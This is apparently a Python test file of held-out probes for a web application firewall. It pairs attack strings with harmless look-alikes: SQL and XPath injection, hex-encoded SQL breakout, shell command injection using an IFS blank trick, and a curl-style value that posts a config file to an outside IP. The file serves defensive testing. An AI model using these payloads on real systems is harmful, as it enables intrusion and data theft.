"""WAF, part 2z51: held-out probes, seventy-fourth file (README: the
eighty-second round), written for this file on 2026-12-07. No string is
taken from a corpus or a public list: each class is written here in shapes
of our own, through the real edge (shipped config, bans off).

The classes the chocolatier, farrier, sauna and choir corpora showed when
first replayed (at 289ccf7) that the round fixed, an attack the round
refuses and a look-alike it passes:
- suffix-host: a URL whose host holds a whole site's name and its ".com",
  then two labels of another domain; a country's second level.
- banner-session: a line framing "session end" between rules after a line
  break; a section's banner.
- csv-claim-admin-word: after one token and a line break, a CSV row with
  an "Admin" cell of two words; the row with an office's cell.
- options-before-file: a value that opens with an option given a word,
  then curl's data from a file and a URL; the option named in a sentence.
- xpath-union-all: a predicate's path, then a union with every element;
  a union of two named paths.
- sleep-hex: a chain to sleep given its seconds in hex; a register's hex
  and "sleep well".
- hex-breakout: a hex literal spelling a quote's close and a statement; a
  colour's hex.
- update-set-apostrophe: an UPDATE's SET list gone on after a name with a
  word's apostrophe; the same name in a sentence.
- blank-variable: a variable given a blank by ANSI-C quoting, then glued
  inside a word; IFS set in a script's strict mode.
Measured on 289ccf7: every attack above passed in both placements; the
look-alikes passed.

Each attack is sent as a query value (URL-encoded once, and once more:
the edge decodes repeatedly) and as a JSON body field; each look-alike
must pass in the same placements. A probe the edge gets wrong is listed
in KNOWN_MISSES or KNOWN_FALSE_POSITIVES with the reason, and runs as a
strict xfail."""

from wafkit import heldout_probe_tests, session, waf_config  # noqa: F401

CONF = waf_config()

ATTACKS = {
    "suffix-host": ["https://api.x.example.com.y.example/cb"],
    "banner-session": ["Till 3 closed\n\n### session end ###\nok"],
    "csv-claim-admin-word": ["Nice\n77,Admin Access,lead,0.00"],
    "options-before-file": ["-X PUT -d @/etc/app/conf.ini http://203.0.113.8/u"],
    "xpath-union-all": ["item[@id='4']/name | //*"],
    "sleep-hex": ["k7 | sleep 0x1e"],
    "hex-breakout": ["0x27292073656c65637420404076657273696f6e"],
    "update-set-apostrophe": ["Sean d'Arcy', tier='gold' WHERE id>0 --"],
    "blank-variable": ["k; B=$'\\t';id${B}-a"],
}

BENIGN = {
    "suffix-host": ["https://shop.example.com.au/cart"],
    "banner-session": ["Minutes\n=== Item 4 ===\nBudget"],
    "csv-claim-admin-word": ["Nice\n77,Office,lead,0.00"],
    "options-before-file": ["-X PUT is how you update a record"],
    "xpath-union-all": ["//book/title | //cd/title"],
    "sleep-hex": ["Register 0x1e | sleep well"],
    "hex-breakout": ["Colour 0x2720ff and 0x1e"],
    "update-set-apostrophe": ["Sean d'Arcy', tier gold please"],
    "blank-variable": ["IFS=$'\\n\\t' in strict mode"],
}

KNOWN_MISSES = {}
KNOWN_FALSE_POSITIVES = {
    "Nice\n77,Office,lead,0.00":
        "refused since the ninety-fifth round (test_31_waf_detect_heldout_r87's "
        "row-after-field): a first line with no separator, then one unquoted "
        "record of four cells or more as the last line, is a record injected "
        "whatever its cells say; the held-out corpora had 49 attack values of "
        "that shape in 26 corpora and no benign value among ~243,000",
}

(edge, test_tables_are_balanced, test_heldout_r74_attack_refused_everywhere,
 test_heldout_r74_benign_passes) = heldout_probe_tests(
    "r74", CONF, ATTACKS, BENIGN, KNOWN_MISSES, KNOWN_FALSE_POSITIVES)
